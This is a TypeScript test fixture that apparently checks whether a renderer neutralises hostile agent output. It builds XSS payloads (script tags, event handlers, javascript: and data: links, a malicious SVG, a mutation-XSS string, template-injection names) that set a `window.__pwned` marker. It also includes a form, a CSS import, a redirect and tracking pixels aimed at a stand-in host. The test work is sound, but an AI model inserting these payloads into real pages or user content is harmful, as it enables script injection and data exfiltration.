/** What an agent that means harm would write. Every sample sets `window.__pwned` if anything in it comes to life. */
const strike = (name: string) => `window.__pwned=\`${name}\``
const elsewhere = 'http://192.0.2.1/stolen'

export const hostileText = [
  `# Quarterly note <img src=x onerror="${strike('heading')}">`,
  `<script>${strike('script')}</script>`,
  `<img src=x onerror='${strike('img')}'><svg onload='${strike('svg')}'></svg>`,
  `<iframe srcdoc="<script>parent.${strike('iframe')}</script>"></iframe>`,
  `<a href="javascript:${strike('html link')}">raw link</a>`,
  `[a link](javascript:${encodeURIComponent(strike('link'))}) and [data](data:text/html,<script>${encodeURIComponent(strike('data'))}</script>)`,
  `[vb](vbscript:x) [spaces](\u0001javascript:alert(1)) [tab](java\tscript:alert(1))`,
  `![picture](${elsewhere}/pixel.png) ![js](javascript:${encodeURIComponent(strike('picture'))})`,
  `<form action="${elsewhere}"><input name=key autofocus onfocus='${strike('focus')}'></form>`,
  `<style>@import url(${elsewhere}/style.css); body { background: url(${elsewhere}/background) }</style>`,
  `<base href="${elsewhere}/"><meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '```html\n<script>alert(1)</script>\n```',
].join('\n\n')

/** As a title, a name, a reason, a label. */
export const hostileName = `<img src=x onerror='${strike('name')}'> \u202Egpj.exe {{7*7}} \${7*7}`

export const hostileFiles = [
  { name: `<img src=x onerror='${strike('file name')}'>.md`, content: hostileText, media_type: 'text/markdown' },
  {
    name: 'page.html',
    content: `<!doctype html><body onload='${strike('body')}'><script>${strike('html file')}</script>${hostileText}`,
    media_type: 'text/html',
  },
  {
    name: 'picture.svg',
    content: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="240" height="120" onload='${strike('svg load')}'>
<script>${strike('svg script')}</script><rect width="240" height="120" fill="#3f5bd9"/><text x="16" y="66" fill="#fff" font-size="20">inert</text>
<image href="${elsewhere}/pixel.png" width="1" height="1"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror='${strike('foreign object')}'/></foreignObject></svg>`,
    media_type: 'image/svg+xml',
  },
  {
    name: 'data.json',
    content: JSON.stringify({ '<img src=x onerror=alert(1)>': hostileText, __proto__: 1 }),
    media_type: 'application/json',
  },
  {
    name: 'feed.xml',
    content: `<?xml version="1.0"?><?xml-stylesheet href="${elsewhere}/x.xsl"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${strike('xml')}</x:script>`,
    media_type: 'application/xml',
  },
] as const
